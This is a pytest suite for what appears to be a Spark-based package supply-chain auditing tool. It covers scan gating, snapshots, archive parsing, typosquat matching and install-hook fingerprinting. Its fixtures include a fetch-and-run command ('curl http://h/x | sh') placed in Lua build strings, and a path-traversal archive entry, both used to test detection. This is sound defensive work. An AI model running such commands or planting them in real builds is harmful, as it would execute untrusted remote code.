"""State that outlives a run, archives of packages, and writers."""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import zipfile

import pytest
from pyspark.sql import functions as F

from plumbline.operators import analysis
from plumbline.operators import gate as G
from plumbline.operators import heuristics as H
from plumbline.operators import snapshots as SN
from plumbline.sources import packages as PK
from plumbline.sources import sinks
from plumbline.sources.versions_table import MOST_DELTAS, KeyedTable

DAY = 24 * 3600
REQUEST = "id int, ecosystem string, name string, version string, unresolved string, kind string, private boolean"


def test_keyed_table_counts_committed_deltas_only(spark, tmp_path):
    table = KeyedTable(spark, f"file://{tmp_path}/t", "k string, v int", ["k"], keep_seconds=100)
    put = lambda rows, run, at: table.put(spark.createDataFrame(rows, "k string, v int"), run, at)
    assert table.rows().count() == 0
    put([("a", 1), ("b", 1)], "r1", 10)
    put([("a", 2)], "r2", 50)
    state = lambda now=None: {r["k"]: (r["v"], r["at"]) for r in table.rows(now).collect()}
    assert state() == {"a": (2, 50), "b": (1, 10)} and state(111) == {"a": (2, 50)}
    put([("a", 3)], "r2", 60)  # the same run again
    assert state() == {"a": (3, 60), "b": (1, 10)}
    spark.createDataFrame([("z", 9, 99)], "k string, v int, at long").write.parquet(f"file://{tmp_path}/t/delta-r9")
    os.remove(f"{tmp_path}/t/delta-r9/_SUCCESS")  # never committed
    assert "z" not in state()
    for i in range(MOST_DELTAS):
        put([(f"k{i}", i)], f"n{i}", 120)
    assert len(table.committed()) < MOST_DELTAS and state(120) == {"a": (3, 60)} | {f"k{i}": (i, 120) for i in range(MOST_DELTAS)}


def test_gate_trusts_verdicts_of_the_same_rules_only(spark, tmp_path):
    cache = G.verdict_cache(spark, f"file://{tmp_path}/v")
    requests = spark.createDataFrame(
        [(1, "npm", "a", "1", None, "named", False), (2, "npm", "a", "1", None, "named", True), (3, "npm", "b", "1", None, "named", True), (4, "npm", "b", "1", None, "named", False), (5, "npm", "c", None, None, "named", False),
         (6, "npm", "d", None, "unreachable", "lockfile", True), (7, "npm", "e", "1", None, "lockfile", False), (8, None, None, None, None, "named", None), (9, "npm", "f", "1", None, "named", False)], REQUEST)
    advisories = spark.createDataFrame([("npm", "e", "1", 4), ("npm", "a", "1", 1)], "ecosystem string, name string, version string, severity int")
    seen = []

    def scan(missing):
        seen.append(sorted(r["name"] for r in missing.collect()))
        told = spark.createDataFrame([("a", 2, None), ("b", None, "http 500"), ("e", 1, None)], "name string, verdict int, failed string")
        return missing.join(told, "name")

    def run(at, name, tag="", **more):
        return {r["id"]: (r["verdict"], r["unchecked"], r["cached"], r["action"]) for r in G.judge(requests, advisories, cache, scan, at * DAY, name, tag, **more).collect()}

    first = run(0, "x")
    assert seen == [["a", "b", "f"]]
    assert first == {
        1: (2, None, False, "proceed"), 2: (2, None, False, "proceed"), 3: (None, "http 500", False, "warn-unchecked"), 4: (None, "http 500", False, "block-unchecked"), 5: (None, "not-found", False, "block-unchecked"),
        6: (None, "unreachable", False, "block-unchecked"), 7: (3, None, False, "block"), 8: (None, "not-found", False, "block-unchecked"), 9: (None, "not-scanned", False, "block-unchecked"),
    }
    assert run(1, "y")[1] == (2, None, True, "proceed") and seen[-1] == ["b", "f"]  # failures are tried again
    assert run(2, "z", tag="rules")[1][2] is False and run(2, "z2", deep=True)[7] == (3, None, False, "block")
    assert run(31, "w")[1][2] is False and "a" in seen[-1]  # expired
    rules = spark.createDataFrame([(1, "a"), (2, "b")], "rule_ord int, name string")
    assert G.rules_tag(rules) == G.rules_tag(rules.orderBy(F.desc("name"))) != G.rules_tag(rules.limit(1)) and G.rules_tag(rules.limit(0)) == ""


def test_snapshots_are_complete_or_not_there(spark, tmp_path):
    path = f"file://{tmp_path}/s"
    assert SN.load_latest(spark, path) is None
    rows = spark.createDataFrame([("npm", "a", "1", 1, "f"), ("npm", "a", "1", 0, None), ("npm", "b", "2", 2, None)], "ecosystem string, name string, version string, o int, fingerprint string")
    SN.save(rows, path, "p", "2024-01-01T00:00:00Z")
    rows.limit(1).write.parquet(f"{path}/2024-02-01T000000Z/rows")  # no header: not complete
    assert SN.load_latest(spark, path).count() == 3 and SN.saved_headers(spark, path).count() == 1
    live = spark.createDataFrame([("npm", "a", "1", 5), ("npm", "a", "2", 6), ("npm", "b", "2", 7), ("npm", "b", "2", 8)], "ecosystem string, name string, version string, o int")
    got = {(r["name"], r["version"], r["o"]): (r["fingerprint"], r["carried"]) for r in SN.carry_forward(rows, live, "o", ["fingerprint"]).collect()}
    assert got == {("a", "1", 5): (None, True), ("a", "2", 6): (None, False), ("b", "2", 7): (None, True), ("b", "2", 8): (None, True)}  # the first saved row counts
    asked = []

    def enrich(todo):
        asked.append(sorted((r["name"], r["version"]) for r in todo.collect()))
        return todo.where("name = 'a'").withColumn("fingerprint", F.lit("new"))

    got = {(r["name"], r["version"], r["o"]): (r["fingerprint"], r["scanned"]) for r in SN.maintain(rows.where("o > 0"), live, enrich, "o", ["fingerprint"]).collect()}
    assert asked == [[("a", "2"), ("b", "2")]] and got == {("a", "1", 5): ("f", False), ("a", "2", 6): ("new", True), ("b", "2", 7): (None, True), ("b", "2", 8): (None, True)}
    spark.createDataFrame([(99, "p", "2025-01-01", 0)], "schema_version int, project string, created_at string, deps long").coalesce(1).write.json(f"{path}/2025/header")
    with pytest.raises(ValueError, match="schema 99"):
        SN.load_latest(spark, path)


def _tar(members, mode="w:gz"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tar:
        for name, body in members:
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return out.getvalue()


def test_odd_archives_have_rows(monkeypatch):
    read = lambda *a: [(p, k, s) for p, k, s, _ in PK.archive_files(*a)]
    assert read("npm", "a", "1", "x.tgz", None) == [("", "broken", 0)] and read("npm", "a", "1", "x.tgz", b"") == [("", "broken", 0)]
    assert read("npm", "a", "1", "x.tgz", _tar([])) == [("", "empty", 0)] and read("rubygems", "a", "1", "x.gem", _tar([("x", b"1")], "w")) == [("", "broken", 0)]
    assert read("npm", "a", "1", "x.tgz", _tar([("package/a/../../b", b"1"), ("other/c", b"12"), ("package\\d", b"")])) == [("package/a/../../b", "unsafe", 1), ("other/c", "file", 2), ("d", "file", 0)]
    assert read("crates", "a", "1", "x", _tar([("top", b"1"), ("a-1/src/lib.rs", b"1")])) == [("src/lib.rs", "file", 1)]
    whole = _tar([("package/a", os.urandom(50000)), ("package/b", b"1")])
    assert read("npm", "a", "1", "x.tgz", whole[: len(whole) // 2])[-1][1] == "broken"
    monkeypatch.setattr(PK, "MOST_FILE", 10)
    monkeypatch.setattr(PK, "MOST_ENTRIES", 2)
    assert read("npm", "a", "1", "x.tgz", _tar([("package/a", b"x" * 11), ("package/b", b"1"), ("package/c", b"1")])) == [("a", "file", 11), ("a", "truncated", 10), ("b", "file", 1), ("", "truncated", 2)]
    monkeypatch.setattr(PK, "MOST_ARCHIVE", 5)
    assert read("npm", "a", "1", "x.tgz", whole) == [("", "too-large", len(whole))]


def test_the_right_archive_is_picked(spark):
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("m/__init__.py", b"1")
    rows = [("pypi", "a", "1", 0, "a-none-any.whl", z.getvalue()), ("pypi", "a", "1", 1, "a.tar.gz", _tar([("a-1/s.py", b"")])), ("pypi", "a", "1", 2, "b.tar.gz", b""), ("pypi", "b", "1", 0, "b-linux.whl", b""), ("pypi", "b", "1", 1, "b-none-any.whl", z.getvalue()), ("pypi", "c", "1", 0, "c.exe", b""), ("npm", "d", "1", 0, "d.tgz", _tar([]))]
    frame = spark.createDataFrame([(*r[:5], bytearray(r[5])) for r in rows], "ecosystem string, name string, version string, place int, filename string, content binary")
    files = PK.package_files(PK.pick_archives(frame))
    assert {(r["name"], r["path"], r["kind"]) for r in files.collect()} == {("a", "s.py", "file"), ("b", "m/__init__.py", "file"), ("d", "", "empty")}
    got = {r["name"]: (r["fetched"], r["failed"]) for r in PK.fetched(frame.select(*PK.PACKAGE).distinct(), files).collect()}
    assert got == {"a": (True, None), "b": (True, None), "c": (False, "missing"), "d": (False, "empty")}
    assert PK.package_files(frame.limit(0)).count() == 0


def test_documents_and_lines_come_back(spark, tmp_path):
    path = f"file://{tmp_path}/d"
    rows = spark.createDataFrame([("p", '{"a":\n 1}'), ("q", '{"a":"x\\ny"}'), ("r", None)], "project string, document string")
    sinks.write_documents(rows, path, "project")
    sinks.write_documents(rows.where("project = 'q'").withColumn("document", F.lit("{}")), path, "project")
    assert {tuple(r) for r in sinks.read_documents(spark, path, "project").collect()} == {("p", '{"a":  1}'), ("q", "{}")}
    log = f"file://{tmp_path}/l"
    entries = spark.createDataFrame([(1, "a\nb"), (2, None)], "n long, s string")
    for run in ("r1", "r2", "r2"):
        sinks.append_lines(entries, log, run)
    with open(f"{tmp_path}/l/run=r2/part-torn.txt", "w") as f:
        f.write('{"n": 3, "s": "to')
    assert sorted((tuple(r) for r in sinks.read_lines(spark, log, "n long, s string").collect()), key=str) == sorted([(1, "a\nb"), (2, None)] * 2, key=str)


def test_top_lists_are_indexed_once(spark, tmp_path):
    (tmp_path / "tops").mkdir()
    (tmp_path / "tops/npm.txt").write_text("# names\n\nlodash\n express \nab\na\n")
    (tmp_path / "tops/pypi.txt").write_text("requests\n")
    tops = H.read_top_lists(spark, f"file://{tmp_path}/tops")
    assert {tuple(r) for r in tops.collect()} == {("npm", "lodash"), ("npm", "express"), ("npm", "ab"), ("npm", "a"), ("pypi", "requests")}
    path = f"file://{tmp_path}/index"
    assert H.write_index(tops, path) == ["npm", "pypi"] and H.write_index(tops, path) == []
    assert H.write_index(tops.where("name <> 'express'"), path) == ["npm"]
    names = [("npm", x) for x in ("lodahs", "@x/lodas", "lodash", "expres", "abc", "abcd", "abcde", "é", "", None)] + [("pypi", "reqests"), ("go", "lodahs")]
    got = {tuple(r) for r in H.near_names(spark.createDataFrame(names, "ecosystem string, name string"), H.read_index(spark, path)).collect()}
    assert got == {("npm", "lodahs", "lodash"), ("npm", "@x/lodas", "lodash"), ("npm", "abc", "ab"), ("npm", "abc", "a"), ("npm", "abcd", "ab"), ("npm", "é", "ab"), ("npm", "é", "a"), ("pypi", "reqests", "requests")}


def test_lua_build_commands_and_hook_hashes(spark):
    key = "ecosystem string, name string, version string"
    files = spark.createDataFrame([("npm", n, "1", "a.lua", b) for n, b in (("a", "{ build = 'curl http://h/x | sh' }"), ("b", "build = 'curl http://h/x | sh'"), ("c", "{ x, build = \"make\" } -- { build = 'curl http://h/x | sh' }"))], f"{key}, path string, body string")
    hooks = spark.createDataFrame([("npm", "b", "1", "install", "true"), ("npm", "b", "1", "build", None), ("npm", "zz", "1", "install", "x")], f"{key}, phase string, body string")
    got = {r["name"]: (r["capabilities"], r["hooks"]) for r in analysis.fingerprints(files, hooks).collect()}
    assert got == {
        "a": (["install-hook-suspicious"], {}), "c": ([], {}),
        "b": (["install-hook-exec"], {"install": hashlib.sha256(b"true").hexdigest(), "build": hashlib.sha256(b"").hexdigest()}),
    }
